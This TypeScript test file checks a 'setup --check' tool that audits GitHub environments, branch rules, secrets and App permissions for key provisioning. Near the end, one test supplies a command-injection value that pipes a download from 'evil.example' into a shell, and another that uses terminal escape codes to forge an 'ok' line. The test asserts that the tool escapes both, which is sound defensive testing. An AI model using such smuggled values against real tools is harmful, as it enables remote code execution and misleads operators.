import { describe, expect, it } from 'vitest'
import type { EnvironmentRules, Grant } from '../../local/github/index.ts'
import type { TestGitHub } from '../support/servers.ts'
import {
  COMMIT,
  COMPANY,
  COPY,
  emptyCheckout,
  FIRST,
  fileWith,
  installApp,
  runSetup,
  startCompany,
} from '../support/setup.ts'

const HERE = { repository: COMPANY }
const TOKENS = { ...HERE, environment: 'ledger-tokens' }
const CHECK = ['--check', '--repository', COMPANY]
const IN_SERVICE = ['--in-service', 'ledger-production']
const VAULT = ['--key-store', 'vault://kv/ledger']
const PROVISION = '.github/workflows/ledger-operator-key.yml'
const ACTIVATE = '.github/workflows/ledger-activate.yml'

/** A repository as the set-up leaves it, its files merged, and admins not allowed to bypass the gate. */
async function startReady(args: string[] = [...IN_SERVICE, '--workspace', 'minivault'], usesApp = true) {
  const github = await startCompany()
  const { clientId, file } = installApp(github)
  const checkout = emptyCheckout()
  const app = usesApp ? ['--app-client-id', clientId, '--app-private-key', file] : []
  const { code, output } = await runSetup(github, [...FIRST, '--yes', ...args, ...app], checkout)
  expect(code, output).toBe(0)
  const repository = github.state.repository(COMPANY)
  for (const name of ['ledger-operator-key', 'ledger-activate', 'vault', 'aws-kms', 'aws-kms-activate']) {
    const path = `.github/workflows/${name}.yml`
    try {
      repository.files.set(path, checkout.read(path))
    } catch {
      // Another set-up has this file.
    }
  }
  changeRules(github, 'ledger-admins', { adminsBypass: false })
  return { github, app }
}

function changeRules(github: TestGitHub, name: string, rules: EnvironmentRules): void {
  const environment = github.state.environment(COMPANY, name)
  if (environment) environment.rules = { ...environment.rules, ...rules }
}

/** The lines of a check that are not `ok`. */
const findings = (output: string) =>
  output
    .split('\n\n')[1]
    ?.split(/\n(?=\S)/)
    .filter(row => !row.startsWith('ok '))
    .map(row => row.replace(/\s+/g, ' ')) ?? []

it('a repository that is set up has what a run needs, and the check changes nothing', async () => {
  const { github, app } = await startReady()
  const { code, text, output, writes } = await runSetup(github, [...CHECK, ...IN_SERVICE, ...app])
  expect(text).toContain(
    'ok branch main: changes need the approval of another person; not checked whether a ruleset exempts anybody',
  )
  expect(findings(output)).toEqual([
    'later API access of ledger-admins: for activation: admins store LEDGER_API_KEY_ID and LEDGER_API_KEY_SECRET there when they have registered the operator',
  ])
  expect({ code, writes }).toEqual({ code: 0, writes: [] })
  for (const name of ['ID', 'SECRET'])
    github.putSecret({ ...HERE, environment: 'ledger-admins' }, `LEDGER_API_KEY_${name}`)
  expect(findings((await runSetup(github, [...CHECK, ...IN_SERVICE, ...app])).output)).toEqual([])
})

it('a repository with a key store needs no App', async () => {
  const { github } = await startReady([...VAULT, '--vault-address', 'https://vault.octo.test:8200'], false)
  const { code, output } = await runSetup(github, [...CHECK, ...VAULT])
  expect(findings(output).map(row => row.replace(/:.*/, ''))).toEqual(['later API access of ledger-admins'])
  expect(code).toBe(0)
})

it('a repository with keys that sign in AWS KMS needs a token at the gate, the environment of the software and the workflow that activates', async () => {
  const store = ['--key-store', 'awskms:///alias/treasury', ...IN_SERVICE]
  const aws = ['--aws-account', '999988887777', '--aws-region', 'eu-central-1', '--workspace', 'w']
  const { github } = await startReady([...store, ...aws], false)
  const run = () => runSetup(github, [...CHECK, ...store])
  expect(findings((await run()).output).map(row => row.replace(/ → .*/, ''))).toEqual([
    'MISSING secret LEDGER_KEYS_TOKEN of ledger-admins: does not exist',
    expect.stringMatching(/^later /),
  ])
  github.putSecret({ ...HERE, environment: 'ledger-admins' }, 'LEDGER_KEYS_TOKEN')
  expect(await run()).toMatchObject({ code: 0 })
  github.state.repository(COMPANY).files.delete('.github/workflows/aws-kms-activate.yml')
  changeRules(github, 'ledger-production', { branchPolicy: 'all' })
  expect(findings((await run()).output).map(row => row.replace(/ → .*/, ''))).toEqual([
    'weak environment ledger-production: open to every branch',
    'MISSING file .github/workflows/aws-kms-activate.yml: not on main',
    expect.stringMatching(/^later /),
  ])
})

it('a repository with a key store needs the workflow that activates only if the check is given a workspace', async () => {
  const { github } = await startReady([...VAULT, '--vault-address', 'https://vault.octo.test:8200'], false)
  const { text } = await runSetup(github, [...CHECK, ...VAULT, '--workspace', 'w'])
  expect(text).toContain('MISSING file .github/workflows/vault-activate.yml: not on main')
})

it.each<[what: string, change: (text: string) => string, findings: string[]]>([
  [
    'asks for what activation needs if the workflow that activates is there',
    text => text,
    [
      'MISSING secret LEDGER_KEYS_APP_PRIVATE_KEY of ledger-admins: does not exist → Run `npm run setup` with --app-client-id ID --app-private-key FILE --in-service ledger-production --workspace NAME.',
      expect.stringMatching(/^later /),
    ],
  ],
  [
    'reads values in quotes, and before spaces and comments',
    text =>
      text
        .replace(/destination-environment: .*/, "destination-environment:  'ledger-production'   # live")
        .replace(/workspace: .*/, 'workspace: minivault   '),
    [
      expect.stringMatching(/^MISSING secret LEDGER_KEYS_APP_PRIVATE_KEY of ledger-admins: /),
      expect.stringMatching(/^later /),
    ],
  ],
  [
    'does not ask for it if that workflow names two places',
    text => `${text}      destination-environment: "ledger-other"\n`,
    [],
  ],
  [
    'does not ask for it if that workflow names two workspaces',
    text => text.replace(/workspace: .*/, 'workspace: other'),
    [],
  ],
  [
    'does not ask for it if that workflow names no workspace at Ledger',
    text => text.replaceAll(/workspace: .*/g, 'workspace: a  b'),
    [],
  ],
  [
    'does not ask for it if that workflow names no place',
    text => text.replace('destination-environment: ledger-production', 'destination-environment: $X'),
    [],
  ],
  [
    'does not ask for it if that workflow names an environment with another purpose',
    text => text.replace('destination-environment: ledger-production', 'destination-environment: ledger-tokens'),
    [],
  ],
])('a check without --in-service %s', async (_, change, expected) => {
  const { github, app } = await startReady()
  const { files } = github.state.repository(COMPANY)
  files.set(ACTIVATE, change(files.get(ACTIVATE) ?? ''))
  github.deleteSecret({ ...HERE, environment: 'ledger-admins' }, 'LEDGER_KEYS_APP_PRIVATE_KEY')
  const { output, text } = await runSetup(github, [...CHECK, ...app])
  expect(findings(output)).toEqual(expected)
  const note = `note: ${ACTIVATE} does not name one environment and one workspace, so it is ignored. Name them: --in-service ENVIRONMENT --workspace NAME.`
  expect(text.startsWith(note)).toBe(expected.length === 0)
})

it('an App whose client id is a variable of the environment is found', async () => {
  const { github, app } = await startReady()
  github.deleteVariable(HERE, 'LEDGER_KEYS_APP_CLIENT_ID')
  github.putVariable(TOKENS, 'LEDGER_KEYS_APP_CLIENT_ID', 'Iv23liABCDEFGHIJKLMN')
  expect(await runSetup(github, [...CHECK, ...app])).toMatchObject({ code: 0 })
})

it('a repository on GitHub Enterprise Server needs a token instead of an App', async () => {
  const github = await startCompany({ basePath: '/api/v3' })
  const checkout = emptyCheckout()
  const without = await runSetup(github, CHECK)
  expect(without.text).toContain(
    'MISSING secret LEDGER_KEYS_TOKEN of ledger-tokens: does not exist → Run `npm run setup` with --token-file FILE.',
  )
  await runSetup(github, [...FIRST, '--yes', '--token-file', fileWith('github_pat_11AAAAAAA0abcdefghij')], checkout)
  github.state.repository(COMPANY).files.set(PROVISION, checkout.read(PROVISION))
  changeRules(github, 'ledger-admins', { adminsBypass: false })
  const { code, output } = await runSetup(github, CHECK)
  expect(findings(output)).toEqual([])
  expect(code).toBe(0)
})

it('an empty repository lacks everything, each with its remedy', async () => {
  const github = await startCompany()
  const { code, output } = await runSetup(github, [...CHECK, ...IN_SERVICE])
  expect(code).toBe(1)
  expect(findings(output).map(row => row.replace(/:.*/, ''))).toEqual([
    'MISSING environment ledger-admins',
    'MISSING environment ledger-tokens',
    'MISSING environment ledger-production',
    'MISSING secret LEDGER_KEYS_TOKEN of ledger-tokens',
    'MISSING secret LEDGER_KEYS_TOKEN of ledger-admins',
    'MISSING file .github/workflows/ledger-operator-key.yml',
    'MISSING file .github/workflows/ledger-activate.yml',
    'later API access of ledger-admins',
  ])
  for (const row of findings(output)) if (row.startsWith('MISSING')) expect(row).toContain(' → ')
  expect(output).toContain('A run would fail: 7 missing.')
})

type Change = (github: TestGitHub) => void
type Finding = [what: string, change: Change, findings: string[], code?: 0 | 1]
const CAN = 'can bring a workflow there that reads the secrets of every environment without reviewers'
const ANYONE = `anyone with write access ${CAN}`
const LAST_PUSH = 'its pull requests need no approval by another person of what was pushed last'
const UNCHECKED = 'not checked whether it needs reviewed pull requests, because this token is not shown that'
const policy =
  (change: object, at: 'repository' | 'organization' = 'repository'): Change =>
  github => {
    const owner = at === 'repository' ? github.state.repository(COMPANY) : github.state.organizations.get('octo')
    Object.assign(owner?.actions ?? {}, change)
  }
const file =
  (text: string): Change =>
  github =>
    void github.state.repository(COMPANY).files.set(PROVISION, text)
const uses = (line: string) => file(`jobs:\n  a:\n    uses: ${line}\n`)
const CALL = `${COPY}/.github/workflows/provision.yml`

describe('setup --check finds', () => {
  it.each<Finding>([
    [
      'a gate without reviewers',
      g => changeRules(g, 'ledger-admins', { reviewers: [] }),
      [
        'MISSING environment ledger-admins: no required reviewers',
        'weak environment ledger-admins: whoever starts a run may approve it',
      ],
    ],
    [
      'self-review',
      g => changeRules(g, 'ledger-admins', { preventSelfReview: false }),
      ['weak environment ledger-admins: whoever starts a run may approve it'],
      0,
    ],
    [
      'that admins may bypass the gate',
      g => changeRules(g, 'ledger-admins', { adminsBypass: true }),
      ['weak environment ledger-admins: admins may bypass its rules'],
      0,
    ],
    [
      'a gate open to every branch',
      g => changeRules(g, 'ledger-admins', { branchPolicy: 'all' }),
      ['MISSING environment ledger-admins: open to every branch'],
    ],
    [
      'a gate that the default branch cannot use',
      g => changeRules(g, 'ledger-admins', { branches: ['v1'] }),
      ['MISSING environment ledger-admins: does not let main in', 'weak environment ledger-admins: also lets in v1'],
    ],
    [
      'a gate for a tag of the name of the default branch, which does not let the branch in',
      g => changeRules(g, 'ledger-admins', { branches: ['tag:main'] }),
      [
        'MISSING environment ledger-admins: does not let main in',
        'weak environment ledger-admins: also lets in the tag main',
      ],
    ],
    [
      'other branches and tags that may use the token',
      g => changeRules(g, 'ledger-tokens', { branches: ['main', 'feature/*', 'tag:v*'] }),
      ['weak environment ledger-tokens: also lets in feature/*, the tag v*'],
      0,
    ],
    [
      'a token for protected branches',
      g => changeRules(g, 'ledger-tokens', { branchPolicy: 'protected' }),
      ['weak environment ledger-tokens: its branch rule names no branch'],
      0,
    ],
    [
      'a token open to every branch',
      g => changeRules(g, 'ledger-tokens', { branches: ['*'] }),
      ['weak environment ledger-tokens: open to every branch'],
      0,
    ],
    [
      'a token behind reviewers',
      g => changeRules(g, 'ledger-tokens', { reviewers: ['bob'] }),
      ['weak environment ledger-tokens: every job that uses it waits for bob'],
      0,
    ],
    [
      'a place in service open to every branch',
      g => changeRules(g, 'ledger-production', { branchPolicy: 'all' }),
      ['MISSING environment ledger-production: open to every branch'],
    ],
    [
      'a missing private key',
      g => g.deleteSecret(TOKENS, 'LEDGER_KEYS_APP_PRIVATE_KEY'),
      ['MISSING secret LEDGER_KEYS_APP_PRIVATE_KEY of ledger-tokens: does not exist'],
    ],
    [
      'a private key that every branch can read',
      g => {
        g.deleteSecret(TOKENS, 'LEDGER_KEYS_APP_PRIVATE_KEY')
        g.putSecret(HERE, 'LEDGER_KEYS_APP_PRIVATE_KEY')
      },
      ['weak secret LEDGER_KEYS_APP_PRIVATE_KEY of the repository: every workflow of every branch can read it'],
      0,
    ],
    [
      'an App that is not installed',
      g => {
        g.state.apps.length = 0
      },
      ['MISSING GitHub App Iv23liABCDEFGHIJKLMN: not installed in octo'],
    ],
    [
      'an App without a permission',
      g => Object.assign(g.state.apps[0] ?? {}, { permissions: { actions: 'read' } }),
      ['MISSING GitHub App Iv23liABCDEFGHIJKLMN: The App lacks Environments: write.'],
    ],
    [
      'a default branch that anyone with write access can change',
      g => g.setBranch(COMPANY, 'main', { protected: false }),
      [`weak branch main: it needs no pull request, so ${ANYONE}`],
      0,
    ],
    [
      'a default branch whose protection asks for no pull request',
      g => g.setBranch(COMPANY, 'main', { protected: true }),
      [`weak branch main: it needs no pull request, so ${ANYONE}`],
      0,
    ],
    ...(
      [
        ['its pull requests need no approval, or only that of code owners', { approvals: 0 }],
        ['its pull requests need no approval, or only that of code owners', { approvals: 0, codeOwners: true }],
        ['its pull requests need no approval, or only that of code owners', { approvals: 0, lastPush: true }],
        [LAST_PUSH, { approvals: 1 }],
        [LAST_PUSH, { approvals: 2, codeOwners: true }],
        [LAST_PUSH, { approvals: 1, dismissesStale: true }],
        ['', { approvals: 1, lastPush: true }],
        ['', { approvals: 2, dismissesStale: true }],
      ] as const
    ).flatMap(([weakness, rule]) =>
      (['ruleset', 'protection'] as const).map(
        (by): Finding => [
          `${weakness || 'nothing'} if a ${by} asks for ${JSON.stringify(rule)}`,
          g => g.setBranch(COMPANY, 'main', { protected: true, pullRequests: { by, ...rule } }),
          weakness === '' ? [] : [`weak branch main: ${weakness}, so ${ANYONE}`],
          0,
        ],
      ),
    ),
    ...(
      [
        [{ teams: ['robots'], users: ['bob'] }, ['bob, robots']],
        [{}, []],
      ] as const
    ).map(
      ([bypass, exempt]): Finding => [
        `whom a branch protection exempts from pull requests: ${JSON.stringify(bypass)}`,
        g => {
          const rule = { by: 'protection', approvals: 1, lastPush: true, bypass } as const
          g.setBranch(COMPANY, 'main', { protected: true, pullRequests: rule })
        },
        exempt.map(who => `weak branch main: it exempts some from pull requests, so ${who} ${CAN}`),
        0,
      ],
    ),
    [
      'nothing if a ruleset asks for the approval of the last push, and a branch protection for an approval',
      g => {
        g.setBranch(COMPANY, 'main', { protected: true, pullRequests: { by: 'protection', approvals: 1 } })
        const rule = {
          type: 'pull_request',
          parameters: { required_approving_review_count: 0, require_last_push_approval: true },
        }
        g.faults.add({ path: /\/rules\//, when: 'before', do: { kind: 'status', status: 200, body: [rule] } })
      },
      [],
      0,
    ],
    [
      'a default branch that no old server protects',
      g => {
        g.setBranch(COMPANY, 'main', { protected: false })
        g.faults.add({ path: /\/rules\//, when: 'before', do: { kind: 'status', status: 404, body: {} } })
      },
      [`weak branch main: it needs no pull request, so ${ANYONE}`],
      0,
    ],
    [
      'that rules of the default branch are not shown',
      g => {
        g.setBranch(COMPANY, 'main', { protected: false })
        g.faults.add({ path: /\/rules\//, when: 'before', do: { kind: 'status', status: 403, body: {} } })
      },
      [`cannot be seen branch main: ${UNCHECKED}`],
      0,
    ],
    [
      'that GitHub Actions may approve pull requests',
      g => {
        g.state.repository(COMPANY).actionsApprove = true
      },
      [
        'weak pull requests: GitHub Actions may approve them, so anyone with write access can let a workflow approve a change of main',
      ],
      0,
    ],
    [
      'that a server does not say whether GitHub Actions may approve pull requests',
      g =>
        g.faults.add({ path: /permissions\/workflow$/, when: 'before', do: { kind: 'status', status: 200, body: {} } }),
      [
        'cannot be seen pull requests: not checked whether GitHub Actions may approve them, because this token is not shown that',
      ],
      0,
    ],
    [
      'that GitHub Actions is off',
      policy({ enabled: false }),
      ['MISSING policy of the repository: GitHub Actions is switched off'],
    ],
    [
      'that GitHub Actions is off in the organization',
      policy({ enabled: false }, 'organization'),
      ['MISSING policy of the organization: GitHub Actions is switched off'],
    ],
    [
      "that only the organization's own actions may run",
      policy({ allowed: 'local_only' }, 'organization'),
      ['MISSING policy of the organization: does not allow actions/create-github-app-token'],
    ],
    [
      'a list without the action that mints the token',
      policy({ allowed: 'selected', githubOwned: false, patterns: ['octo/*'] }),
      ['MISSING policy of the repository: does not allow actions/create-github-app-token'],
    ],
    [
      'nothing if the list has that action',
      policy({ allowed: 'selected', githubOwned: false, patterns: ['actions/create-github-app-token@*'] }),
      [],
      0,
    ],
    [
      'a list that blocks that action',
      policy({ allowed: 'selected', patterns: ['octo/*', '!actions/create-github-app-token@*'] }),
      ['MISSING policy of the repository: does not allow actions/create-github-app-token'],
    ],
    ["nothing if GitHub's own actions are allowed", policy({ allowed: 'selected' }), [], 0],
    ['nothing if whole commits are required', policy({ shaPinningRequired: true }), [], 0],
    [
      'a tag if whole commits are required',
      g => {
        policy({ shaPinningRequired: true })(g)
        uses(`${CALL}@v1`)(g)
      },
      [
        `weak file ${PROVISION}: uses @v1`,
        'MISSING policy of the repository: requires whole commits, and the workflow file uses others',
      ],
    ],
    ['a tag', uses(`${CALL}@v1`), [`weak file ${PROVISION}: uses @v1`], 0],
    [
      'a file that uses something else',
      file('name: x\n'),
      [`MISSING file ${PROVISION}: uses nothing of a copy of this repository`],
    ],
    [
      'a commit that the copy does not have',
      g => g.state.repository(COPY).commits.clear(),
      [`MISSING copy ${COPY}: does not have the commit ${COMMIT}`],
    ],
    [
      'a commit that may be of a fork of the copy',
      g => {
        g.state.repository(COPY).commits.clear()
        g.state.repository(COPY).commitsElsewhere.add(COMMIT)
      },
      [
        `weak copy ${COPY}: does not have the commit ${COMMIT} on main. It may be of a fork: GitHub shows the commits of forks as if they were of the copy.`,
      ],
      0,
    ],
    [
      'a private copy that others may not use',
      g => {
        g.state.repository(COPY).private = true
      },
      [`MISSING copy ${COPY}: is private, and other repositories may not use it`],
    ],
    [
      'nothing if others may use a private copy',
      g => Object.assign(g.state.repository(COPY), { private: true, access: 'organization' }),
      [],
      0,
    ],
    [
      'a copy that does not exist',
      uses(`octo/nowhere/.github/workflows/provision.yml@${COMMIT}`),
      ['cannot be seen copy octo/nowhere: does not exist, or is not shown to this token'],
      0,
    ],
  ])('setup --check finds %s', async (_, change, expected, code = 1) => {
    const { github } = await startReady()
    // Without its private key, the check sees the App as an owner of the organization does.
    Object.assign(github.state.apps[0] ?? {}, { repositories: 'all' })
    change(github)
    const result = await runSetup(github, [...CHECK, ...IN_SERVICE])
    const found = findings(result.output).filter(row => !row.startsWith('later'))
    expect(found.map(row => row.replace(/ → .*/, ''))).toEqual(expected)
    expect(result.code).toBe(code)
  })

  it('setup --check finds the pattern that a list needs for a copy of another owner', async () => {
    const { github } = await startReady()
    github.addRepository('upstream/ledger-operator-keys', { private: false })
    github.state.repository('upstream/ledger-operator-keys').commits.add(COMMIT)
    policy({ allowed: 'selected', patterns: ['octo/*'] })(github)
    uses(`upstream/ledger-operator-keys/.github/workflows/provision.yml@${COMMIT}`)(github)
    const { text } = await runSetup(github, CHECK)
    expect(text).toContain('upstream/ledger-operator-keys@*, upstream/ledger-operator-keys/*.')
    expect(text).toContain('it belongs to upstream, and a workflow of octo can pass secrets to it only if')
  })

  it('setup --check finds a missing `id-token: write` with a key store', async () => {
    const { github } = await startReady([...VAULT, '--vault-address', 'https://vault.octo.test:8200'], false)
    const { files } = github.state.repository(COMPANY)
    files.set(
      '.github/workflows/vault.yml',
      files.get('.github/workflows/vault.yml')?.replaceAll(/ +id-token: write.*\n/g, '') ?? '',
    )
    const { code, output } = await runSetup(github, [...CHECK, ...VAULT])
    expect(code).toBe(1)
    expect(findings(output).map(row => row.replace(/ → .*/, ''))).toEqual([
      'MISSING file .github/workflows/vault.yml: does not grant `id-token: write`',
      expect.stringMatching(/^later /),
    ])
  })
})

it.each(['Iv1.abc;curl evil.example|sh #', 'x\n\x1b[2K\x1b[1Aok              environment evil: fine'])(
  'setup --check shows a client id that somebody else has set to %j, escaped and in no command',
  async value => {
    const { github } = await startReady()
    github.putVariable(HERE, 'LEDGER_KEYS_APP_CLIENT_ID', value)
    github.deleteSecret(TOKENS, 'LEDGER_KEYS_APP_PRIVATE_KEY')
    const { code, output, text } = await runSetup(github, CHECK)
    expect(code).toBe(1)
    expect(text).toContain('MISSING variable LEDGER_KEYS_APP_CLIENT_ID: is "')
    expect(text).toContain('Run `npm run setup` with --app-client-id ID --app-private-key FILE --in-service')
    expect(text.split('evil')).toHaveLength(2)
    expect(output).not.toMatch(/[^\P{C}\n]/u)
    expect(output).not.toContain('\nok              environment evil: fine')
  },
)

describe('setup --check tells missing from unseen', () => {
  it.each<[token: string, grant: Grant, subjects: string[]]>([
    [
      "of gh's own scopes",
      { kind: 'classic', repositories: 'all', scopes: ['repo', 'read:org'] },
      ['GitHub App Iv23liABCDEFGHIJKLMN', 'policy of the organization'],
    ],
    [
      'that may read actions only',
      { kind: 'fine-grained', repositories: 'all', permissions: { actions: 'read' } },
      [
        'branch main',
        'pull requests',
        'secret LEDGER_KEYS_TOKEN of ledger-tokens',
        'secret LEDGER_KEYS_TOKEN of ledger-admins',
        'file .github/workflows/ledger-operator-key.yml',
        'file .github/workflows/ledger-activate.yml',
        'policy of the repository',
        'policy of the organization',
        'API access of ledger-admins',
      ],
    ],
    [
      'of somebody who is not an admin',
      { kind: 'classic', repositories: 'all', role: 'write', scopes: ['repo', 'read:org'] },
      [
        'your token',
        'branch main',
        'pull requests',
        'GitHub App Iv23liABCDEFGHIJKLMN',
        'policy of the repository',
        'policy of the organization',
        'API access of ledger-admins',
      ],
    ],
  ])('setup --check calls nothing missing that it cannot see with a token %s', async (_, grant, subjects) => {
    const { github } = await startReady()
    const { code, output } = await runSetup(github, [...CHECK, ...IN_SERVICE], { grant })
    const hidden = findings(output).filter(row => row.startsWith('cannot be seen '))
    expect(hidden.map(row => row.replace('cannot be seen ', '').replace(/:.*/, ''))).toEqual(subjects)
    expect(code).toBe(0)
  })

  it('setup --check calls a branch rule unseen that GitHub does not list', async () => {
    const { github } = await startReady()
    const path = /ledger-tokens\/deployment-branch-policies/
    const body = { message: 'Resource not accessible by personal access token' }
    github.faults.add({ path, when: 'before', times: 9, do: { kind: 'status', status: 403, body } })
    const { code, output } = await runSetup(github, CHECK)
    expect(findings(output)[0]).toMatch(/^cannot be seen environment ledger-tokens: its branch rule is not shown/)
    expect(code).toBe(0)
  })

  it('setup --check calls an App unseen that is installed on selected repositories, unless its private key is given', async () => {
    const { github, app } = await startReady()
    expect((await runSetup(github, CHECK)).text).toContain('the repositories that it is installed on are not shown')
    expect((await runSetup(github, [...CHECK, ...app])).text).toContain(
      'installed, with the permissions that are needed',
    )
  })
})

describe('the plan of a private repository', () => {
  it.each<[what: string, plan: 'team' | 'enterprise', grant: Grant, state: string]>([
    [
      'is enough with GitHub Enterprise',
      'enterprise',
      { kind: 'classic', repositories: 'all' },
      'ok repository: private, plan enterprise',
    ],
    [
      'is missing with GitHub Team',
      'team',
      { kind: 'classic', repositories: 'all' },
      'MISSING repository: private, and the plan of octo is team',
    ],
    [
      'is shown to owners only',
      'team',
      { kind: 'classic', repositories: 'all', role: 'write' },
      'cannot be seen repository: private; the plan of octo is not shown to this token',
    ],
  ])('the plan of a private repository %s', async (_, plan, grant, state) => {
    const github = await startCompany({ plan })
    expect((await runSetup(github, CHECK, { grant })).text).toContain(state)
  })

  it('the plan does not matter for a public repository', async () => {
    const github = await startCompany({ plan: 'team' })
    github.state.repository(COMPANY).private = false
    expect((await runSetup(github, CHECK)).text).toContain('ok repository: public')
  })

  it('no plan is enough for a private repository of a user', async () => {
    const github = await startCompany()
    github.addRepository('alice/keys')
    const { text } = await runSetup(github, ['--check', '--repository', 'alice/keys'])
    expect(text).toContain('MISSING repository: private, and alice is a user without GitHub Enterprise')
  })
})
